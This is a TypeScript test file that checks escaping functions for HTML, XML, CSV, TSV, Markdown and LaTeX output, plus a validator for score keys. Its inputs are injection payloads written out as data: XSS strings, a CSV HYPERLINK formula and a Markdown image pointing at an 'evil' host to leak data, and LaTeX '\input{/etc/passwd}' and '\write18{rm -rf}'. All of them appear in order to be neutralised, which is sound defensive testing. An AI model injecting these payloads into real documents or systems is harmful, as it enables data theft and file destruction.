import { describe, expect, test } from 'vitest'
import { csv, exactNumber, html, isScoreKey, latex, markdown, numberText, tsv, xml } from '../src/escape.ts'

type Case = readonly [text: string, escaped: string]

describe('escapes in HTML', () => {
  test.each<Case>([
    ['"><img src=x onerror=alert(1)>', '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'],
    ['javascript:alert(1)', 'javascript:alert(1)'],
    ['</script><script>alert(1)</script>', '&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['<!--', '&lt;!--'],
    ["it's & &amp;", 'it&#39;s &amp; &amp;amp;'],
    ['a\nb\u0000\u202e', 'a\\u{a}b\\u{0}\\u{202e}'],
    ['ação 💩', 'ação 💩'],
  ])('%j is escaped', (text, escaped) => expect(html(text)).toBe(escaped))
})

describe('escapes in XML', () => {
  test.each<Case>([
    ['</failure><failure message="x">', '&lt;/failure&gt;&lt;failure message=&quot;x&quot;&gt;'],
    [']]>', ']]&gt;'],
    ['<![CDATA[x', '&lt;![CDATA[x'],
    ["it's & &amp;", 'it&apos;s &amp; &amp;amp;'],
    ['a\tb\nc\rd', 'a&#9;b&#10;c&#13;d'],
    ['\u0000\u0008\u000b\u001b\ufffe\uffff', '\ufffd'.repeat(6)],
    ['\ud800x\udc00', '\ufffdx\ufffd'],
    ['ação 💩 \u{1fffe}\u0085', 'ação 💩 \u{1fffe}\u0085'],
  ])('%j is escaped', (text, escaped) => expect(xml(text)).toBe(escaped))
})

describe('escapes in CSV', () => {
  test.each<Case>([
    ['=HYPERLINK("http://evil","x")', '"\'=HYPERLINK(""http://evil"",""x"")"'],
    ['@user', "'@user"],
    ['-1+1', "'-1+1"],
    ['+1', "'+1"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['\u0000x', "'\u0000x"],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['a=b-c', 'a=b-c'],
    ['', ''],
  ])('%j is escaped', (text, escaped) => expect(csv(text)).toBe(escaped))

  test.each<Case>([
    ['=1,2', '"=1,2"'],
    ['@user', '@user'],
  ])('%j is kept with raw', (text, escaped) => expect(csv(text, true)).toBe(escaped))
})

describe('escapes in TSV', () => {
  test.each<Case>([
    ['a\tb', 'a\\tb'],
    ['a\nb\r', 'a\\nb\\r'],
    ['\\t', '\\\\t'],
    ['=1', '=1'],
  ])('%j is escaped', (text, escaped) => expect(tsv(text)).toBe(escaped))
})

describe('escapes in Markdown', () => {
  test.each<Case>([
    ['![x](http://evil/?leak)', '\\!\\[x\\]\\(http\\://evil/?leak\\)'],
    ['@team', '\\@&#8203;team'],
    ['a|b', 'a\\|b'],
    ['a\nb', 'a\\\\u\\{a\\}b'],
    ['<b>&lt;', '\\<b\\>\\&lt;'],
    ['$x$ `y` ~z~ **w**', '\\$x\\$ \\`y\\` \\~z\\~ \\*\\*w\\*\\*'],
    ['\\|', '\\\\\\|'],
    ['PER', 'PER'],
  ])('%j is escaped', (text, escaped) => expect(markdown(text)).toBe(escaped))
})

describe('escapes in LaTeX', () => {
  test.each<Case>([
    ['\\input{/etc/passwd}', '\\textbackslash{}input\\{/etc/passwd\\}'],
    ['\\write18{rm -rf}', '\\textbackslash{}write18\\{rm -rf\\}'],
    ['100%', '100\\%'],
    ['$a_b^c$ & #1 ~', '\\$a\\_b\\textasciicircum{}c\\$ \\& \\#1 \\textasciitilde{}'],
    ['[10cm]*', '{[}10cm]{*}'],
    ['<|>', '\\textless{}\\textbar{}\\textgreater{}'],
    ['^^M\r\n\u001b\u202e', '\\textasciicircum{}\\textasciicircum{}M'],
  ])('%j is escaped', (text, escaped) => expect(latex(text)).toBe(escaped))
})

describe('keys of scores.txt', () => {
  test.each(['a: b"', 'a b', '', 'a\n', '1a', '-a', 'ä', '../x', 'a:b', 'a#b'])('%j is refused', (key) =>
    expect(isScoreKey(key)).toBe(false),
  )
  test.each(['ours_conll-f1_f1', 'purity_fAlpha0.5'])('%j is accepted', (key) => expect(isScoreKey(key)).toBe(true))
})

describe('numbers in JSON and YAML', () => {
  test('are read back unchanged, in YAML 1.1 too', () => {
    expect([0.1, 1e-7, 1.5e-7, 1e21, -1e-7, 12, 0].map(exactNumber)).toEqual([
      '0.1',
      '1.0e-7',
      '1.5e-7',
      '1.0e+21',
      '-1.0e-7',
      '12',
      '0',
    ])
  })

  test('are rounded half to even if a number of decimals is set', () => {
    expect(numberText(0.125, 2)).toBe('0.12')
    expect(numberText(0.125, undefined)).toBe('0.125')
  })
})
